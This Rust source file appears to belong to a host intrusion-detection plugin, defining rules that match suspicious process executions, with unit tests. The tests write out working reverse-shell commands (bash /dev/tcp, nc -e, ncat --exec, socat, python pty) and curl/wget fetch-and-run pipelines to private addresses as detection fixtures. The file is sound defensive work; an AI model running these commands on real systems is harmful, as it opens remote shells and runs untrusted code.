//! Rules over one event.

use eunomia_plugin::prelude::*;
use serde::{Deserialize, Deserializer};
use wildmatch::WildMatch;

/// A pattern with `*` and `?`, for a whole string.
#[derive(Debug, Clone)]
struct Glob(WildMatch);

impl<'de> Deserialize<'de> for Glob {
    fn deserialize<D: Deserializer<'de>>(deserializer: D) -> Result<Self, D::Error> {
        String::deserialize(deserializer).map(|text| Glob(WildMatch::new(&text)))
    }
}

#[derive(Deserialize, Debug, Clone, Copy)]
#[serde(rename_all = "lowercase")]
enum Level {
    Info,
    Low,
    Medium,
    High,
    Critical,
}

/// A rule. Every condition that is given must hold; a list holds when one of its patterns fits.
#[derive(Deserialize, Debug, Clone)]
#[serde(deny_unknown_fields, try_from = "RuleTable")]
pub struct Rule {
    pub name: String,
    table: RuleTable,
}

#[derive(Deserialize, Debug, Clone)]
#[serde(deny_unknown_fields)]
struct RuleTable {
    name: String,
    severity: Level,
    /// What the alert says, before the program, its arguments, user and parent.
    #[serde(default)]
    message: String,
    /// The program's path.
    #[serde(default)]
    exe: Vec<Glob>,
    /// The arguments, joined by spaces.
    #[serde(default)]
    args: Vec<Glob>,
    /// The real user id.
    #[serde(default)]
    uid: Vec<u32>,
    /// The parent's name.
    #[serde(default)]
    parent: Vec<Glob>,
    /// The current directory.
    #[serde(default)]
    cwd: Vec<Glob>,
    /// The program is, or is not, a file in memory that has no name.
    memfd: Option<bool>,
    /// The program's file had, or had not, been deleted.
    deleted: Option<bool>,
    /// The program is, or is not, from a container's writable layer.
    upper_layer: Option<bool>,
    /// Programs and parents that are left out.
    #[serde(default)]
    except_exe: Vec<Glob>,
    #[serde(default)]
    except_parent: Vec<Glob>,
}

impl TryFrom<RuleTable> for Rule {
    type Error = String;

    fn try_from(table: RuleTable) -> Result<Self, String> {
        let lists = [&table.exe, &table.args, &table.parent, &table.cwd];
        let flags = [table.memfd, table.deleted, table.upper_layer];
        if lists.iter().all(|list| list.is_empty()) && table.uid.is_empty() && flags.iter().all(Option::is_none) {
            return Err(format!("the rule {} has no condition, so it would fit everything", table.name));
        }
        Ok(Rule { name: table.name.clone(), table })
    }
}

/// The rules of the plugin itself.
pub fn default_rules() -> Vec<Rule> {
    serde_json::from_str(include_str!("default_rules.json")).expect("a test reads it")
}

fn any(globs: &[Glob], text: &str) -> bool {
    globs.iter().any(|glob| glob.0.matches(text))
}

fn holds(globs: &[Glob], text: &str) -> bool {
    globs.is_empty() || any(globs, text)
}

impl Rule {
    /// Whether the rule fits an event.
    pub fn fits(&self, event: &Exec) -> bool {
        let table = &self.table;
        let is = |wanted: Option<bool>, value: bool| wanted.is_none_or(|wanted| wanted == value);
        is(table.memfd, event.exe_memfd)
            && is(table.deleted, event.exe_deleted)
            && is(table.upper_layer, event.exe_upper_layer == Some(true))
            && (table.uid.is_empty() || table.uid.contains(&event.task.uid))
            && holds(&table.exe, &event.exe)
            && holds(&table.parent, &event.parent_comm)
            && holds(&table.cwd, &event.cwd)
            && !any(&table.except_exe, &event.exe)
            && !any(&table.except_parent, &event.parent_comm)
            && (table.args.is_empty() || any(&table.args, &event.args.join(" ")))
    }

    /// What to say of the event.
    pub fn alert(&self, event: &Exec) -> Alert {
        let severity = match self.table.severity {
            Level::Info => Severity::Info,
            Level::Low => Severity::Low,
            Level::Medium => Severity::Medium,
            Level::High => Severity::High,
            Level::Critical => Severity::Critical,
        };
        alert(severity, &self.name, &self.table.message, event)
    }
}

/// An alert about an execution.
pub fn alert(severity: Severity, rule: &str, message: &str, event: &Exec) -> Alert {
    let message = if message.is_empty() { "rule fits" } else { message };
    let message = format!("{message}: {} was started by {}", event.exe, event.parent_comm);
    Alert::new(severity, rule, message).about(event).field("exe", &event.exe).field("args", event.args.join(" "))
}

#[cfg(test)]
pub mod tests {
    use super::*;

    /// The execution of a program with arguments by a parent.
    pub fn exec(exe: &str, args: &str, parent: &str) -> Exec {
        let task = Task {
            pid: 2,
            tid: 2,
            ppid: 1,
            uid: 1000,
            gid: 1000,
            comm: exe.rsplit('/').next().unwrap_or_default().into(),
            cgroup: 1,
            pid_ns: 1,
            mnt_ns: 1,
            user_ns: 1,
            start_time: 1,
        };
        Exec {
            time: 1_000,
            task,
            filename: exe.into(),
            exe: exe.into(),
            exe_memfd: false,
            exe_deleted: false,
            exe_upper_layer: None,
            args: args.split(' ').map(Into::into).collect(),
            args_truncated: false,
            cwd: "/".into(),
            paths_truncated: false,
            tty: None,
            login_uid: None,
            capabilities: 0,
            parent_comm: parent.into(),
            lossy: false,
        }
    }

    fn rule_for(event: &Exec) -> Option<String> {
        default_rules().iter().find(|rule| rule.fits(event)).map(|rule| rule.name.clone())
    }

    #[test]
    fn what_matters_is_caught() {
        for (exe, args, parent, rule) in [
            ("/tmp/x", "/tmp/x -c true", "bash", "exec-from-writable-folder"),
            ("/dev/shm/.a", "./.a", "bash", "exec-from-writable-folder"),
            ("/var/tmp/miner", "miner", "cron", "exec-from-writable-folder"),
            ("/usr/bin/bash", "bash -c bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "python3", "network-shell"),
            ("/usr/bin/nc.traditional", "nc -e /bin/sh 10.0.0.1 4444", "bash", "network-shell"),
            ("/usr/bin/ncat", "ncat 10.0.0.1 4444 --exec /bin/bash", "bash", "network-shell"),
            ("/usr/bin/socat", "socat tcp:10.0.0.1:4444 exec:sh", "bash", "network-shell"),
            ("/usr/bin/python3.11", "python3 -c import socket,pty;pty.spawn('sh')", "bash", "network-shell"),
            ("/usr/bin/dash", "sh -c curl -s http://10.0.0.1/a | sh", "cron", "interpreter-fed-from-network"),
            ("/usr/bin/bash", "bash -c $(wget -qO- http://10.0.0.1/a)", "cron", "interpreter-fed-from-network"),
            ("/usr/bin/dash", "sh -c id", "nginx", "shell-of-web-server"),
            ("/usr/bin/bash", "bash", "php-fpm8.2", "shell-of-web-server"),
        ] {
            assert_eq!(rule_for(&exec(exe, args, parent)).as_deref(), Some(rule), "{args}");
        }
        let in_memory = Exec { exe_memfd: true, ..exec("/memfd:x", "x", "bash") };
        assert_eq!(rule_for(&in_memory).as_deref(), Some("exec-from-memory"));
        let deleted = Exec { exe_deleted: true, ..exec("/opt/x", "x", "bash") };
        assert_eq!(rule_for(&deleted).as_deref(), Some("exec-of-deleted-file"));
    }

    #[test]
    fn what_is_usual_is_left_alone() {
        for (exe, args, parent) in [
            ("/usr/bin/bash", "bash", "sshd"),
            ("/usr/bin/dash", "sh -c make -j2", "make"),
            ("/usr/bin/curl", "curl -O https://example.org/a.tar.gz", "bash"),
            ("/usr/bin/python3.11", "python3 -m http.server", "bash"),
            ("/usr/bin/nc", "nc -z localhost 22", "bash"),
            ("/usr/sbin/nginx", "nginx -g daemon off;", "systemd"),
            ("/home/me/tmp/x", "x", "bash"),
            ("/usr/bin/runc", "runc init", "containerd-shim"),
        ] {
            assert_eq!(rule_for(&exec(exe, args, parent)), None, "{args}");
        }
        let runc =
            Exec { exe_memfd: true, ..exec("/memfd:runc_cloned:/proc/self/exe", "runc init", "containerd-shim") };
        assert_eq!(rule_for(&runc), None, "container engines run themselves from memory");
    }
}
